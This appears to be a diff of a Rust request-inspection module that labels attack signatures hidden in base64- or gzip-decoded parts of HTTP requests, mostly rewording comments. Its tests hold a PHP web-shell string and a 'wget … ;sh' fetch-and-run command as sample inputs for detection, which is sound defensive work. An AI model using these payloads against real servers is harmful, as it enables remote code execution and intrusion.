@@ -1,8 +1,8 @@
-//! Labels and addresses in what a request hides in an encoding.
+//! Finds labels and addresses in the decoded parts of a request.
 //!
-//! In: the parts of a request, decoded. Out: what is found there and nowhere in the bytes as they
-//! came. A part stands in place of the body and of the whole request; path, method and headers stay
-//! those of the request. URL encoding is left out: the views of a request undo it.
+//! In: the decoded parts of a request. Out: what is found in them and not in the bytes as sent. A
+//! part replaces the body and the whole request; path, method and headers stay those of the
+//! request. Parts that are only URL-decoded are left out: the forms of a request have them.
 
 use std::ops::Range;
 
@@ -13,11 +13,11 @@ use crate::labels::{Label, Labeller};
 use crate::sample::Sample;
 use crate::text::Text;
 
-/// What is looked at of all parts of a request together.
+/// Most bytes that are searched in all parts of a request together.
 const MAX_BYTES: usize = 16 * 1024;
 
 impl Labeller {
-    /// Adds the labels, with the numbers of their signatures, that apply to a decoded part alone.
+    /// Adds the labels that apply only to a decoded part, with the numbers of their signatures.
     pub(crate) fn look_inside(
         &self,
         sample: &Sample<'_>,
@@ -43,7 +43,7 @@ impl Labeller {
     }
 }
 
-/// Adds the addresses that are in a decoded part alone.
+/// Adds the addresses that are only in a decoded part.
 pub(crate) fn indicators(decoded: &[Part], all: &mut Vec<Indicator>) {
     for (part, seen) in parts(decoded) {
         let bytes = &part.bytes[seen];
@@ -60,7 +60,7 @@ pub(crate) fn indicators(decoded: &[Part], all: &mut Vec<Indicator>) {
     }
 }
 
-/// Returns the parts that the views of a request do not have, and what is looked at of each.
+/// Returns the parts that are not only URL-decoded, and for each the range that is searched.
 fn parts(decoded: &[Part]) -> impl Iterator<Item = (&Part, Range<usize>)> {
     let mut left = MAX_BYTES;
     let are_new = decoded.iter().filter(|part| !part.is_url_decoded_alone());
@@ -89,7 +89,7 @@ mod tests {
         format!("POST /x HTTP/1.1\r\n{head}\r\n{body}").into_bytes()
     }
 
-    /// Where the signature of PHP's code was found, with the bytes.
+    /// Returns where the signature of PHP code was found, and the bytes.
     fn php(raw: &[u8]) -> Option<(Option<String>, Vec<u8>)> {
         let labels = LABELLER.describe(raw, None).labels.into_iter();
         let mut found = labels.filter(|label| label.signature.id == "php-code-in-request");
@@ -103,7 +103,7 @@ mod tests {
         let (place, evidence) = php(&post("", &format!("{{\"a\":\"{code}\"}}"))).unwrap();
         assert_eq!(place.unwrap(), "body, base64 PD9waHAgc3lzdGVtKCR…");
         assert_eq!(evidence, code.as_bytes());
-        // What stands there as it is as well, was found there.
+        // Code that also stands there as sent is found there.
         let (place, _) = php(&post("", &format!("<?php system($_GET['c']); ?>{code}"))).unwrap();
         assert_eq!(place, None);
     }
@@ -123,7 +123,8 @@ mod tests {
     #[test]
     fn a_packed_form_is_a_form() {
         let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
-        // So often that it is worth compressing: else it would be stored as it is.
+        // The text is repeated so that compression makes it smaller; otherwise it would be stored
+        // as is.
         let form = "z=1&cmd=wget+http://198.51.100.9/x;sh+x&".repeat(9);
         gzip.write_all(form.as_bytes()).unwrap();
         let head = post("Content-Encoding: gzip\r\n", "");
